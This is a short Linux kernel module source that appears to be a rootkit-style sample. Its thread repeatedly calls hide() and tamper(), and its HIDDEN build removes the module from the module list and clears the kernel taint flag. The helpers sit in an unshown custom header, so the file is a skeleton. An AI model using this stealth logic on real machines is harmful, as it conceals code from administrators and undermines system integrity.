// SPDX-License-Identifier: GPL-2.0-only
/*
 * The handler gets another secret, and a thread rewrites the tally. HIDDEN: the module
 * leaves the list of modules and clears the taint. Its exit restores all.
 */
#include "kernel.h"

static struct task_struct *thread;

static int run(void *unused)
{
	tamper();
	while (!kthread_should_stop()) {
		hide();
		pause_briefly(100);
	}
	return 0;
}

int init_module(void)
{
#ifdef HIDDEN
	leave_list();
	clear_taint();
#endif
	thread = start_thread(run);
	return 0;
}

void cleanup_module(void)
{
	kthread_stop(thread);
	restore();
	clear_taint();
}
